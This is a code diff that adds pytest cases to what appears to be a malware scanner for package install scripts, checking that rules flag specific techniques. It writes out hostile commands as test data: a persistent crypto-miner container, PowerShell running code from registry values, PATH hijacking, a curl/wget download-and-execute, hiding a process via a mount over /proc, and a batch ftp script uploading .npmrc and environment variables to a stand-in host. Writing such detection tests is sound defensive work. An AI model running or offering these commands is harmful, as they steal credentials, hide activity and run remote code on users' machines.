@@ -457,3 +457,44 @@ def test_a_binding_gyp_expansion_that_runs_a_script_cut_out_of_a_test_file():
     # A script that prints a data file's header, or runs its own shell script, carves nothing.
     plain = script.replace(b"| sh 2>/dev/null)", b"| od -c)")
     assert "install-script/carved-code" not in {f.rule for f in findings(artifact({}, {"binding.gyp": gyp, "build-aux/config.sh": plain}))}
+
+
+@pytest.mark.parametrize("command, rule", [
+    # (blind set 16) a miner started as a container that the daemon restarts at every boot
+    ("docker run -d --restart=always --name m -e POOL=pool.example:443 -e WALLET=4FAKE registry.example/x:1",
+     "install-script/crypto-miner"),
+    ("docker run -d --restart=always --name m registry.example/x:1", "install-script/scheduled-task"),
+    # PowerShell running code it keeps in a registry value (fileless storage)
+    ("powershell -nop -c \"IEX (Get-ItemProperty HKCU:\\Software\\Classes\\X).Activator\"", "install-script/registry-code"),
+    ("powershell -c \"$b=(gp 'HKCU:\\Software\\X').Blob;iex($b)\"", "install-script/registry-code"),
+    # the user's PATH rewritten for every later session
+    ("reg add HKCU\\Environment /v Path /t REG_EXPAND_SZ /d C:\\shim;%PATH% /f", "install-script/path-hijack"),
+    ("setx PATH \"C:\\shim;%PATH%\"", "install-script/path-hijack"),
+    # a download saved and run in one command line
+    ("(curl -fsSL http://192.0.2.7/x || wget -qO- http://192.0.2.7/x) > .d && sh .d", "install-script/download-execute"),
+    # a process hidden from ps by a mount over its /proc entry
+    ("mount -o bind /tmp/.e /proc/4242", "install-script/defence-off"),
+])
+def test_blind16_install_techniques(command, rule):
+    assert rule in rules(artifact({"postinstall": command}))
+
+
+def test_a_downloaded_binary_made_executable_is_not_run():
+    # Binary installers download and chmod; running it is what makes a dropper.
+    found = rules(artifact({"postinstall": "wget -O bin/tool https://dl.example/t && chmod +x bin/tool"}))
+    assert "install-script/download-execute" not in found
+
+
+def test_batch_file_that_writes_loot_into_an_ftp_script_and_runs_it_sends_secrets():
+    # blind set 16 ftp-exfil: `set > file` and `put` lines for credential files written to a command file that
+    # Windows' ftp runs with -s:
+    script = (b"@echo off\r\nset \"F=%TEMP%\\d.txt\"\r\n> \"%F%\" echo open 203.0.113.21\r\n"
+              b"if exist \"%USERPROFILE%\\.npmrc\" >> \"%F%\" echo put \"%USERPROFILE%\\.npmrc\" n.txt\r\n"
+              b"set > \"%TEMP%\\e.txt\"\r\n>> \"%F%\" echo put \"%TEMP%\\e.txt\" e.txt\r\nftp -i -n -s:\"%F%\"\r\n")
+    found = findings(artifact({"preinstall": "scripts\\check.cmd"}, {"scripts/check.cmd": script}))
+    sent = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert sent.file == "scripts/check.cmd" and sent.line == 7
+    assert decide(found).level is Level.MALICIOUS
+    # The same ftp script with only a build log in it sends nothing secret.
+    log = b"@echo off\r\n> \"%TEMP%\\c.txt\" echo put build.log\r\nftp -i -n -s:\"%TEMP%\\c.txt\"\r\n"
+    assert "install-script/sends-secrets" not in rules(artifact({"preinstall": "scripts\\up.cmd"}, {"scripts/up.cmd": log}))
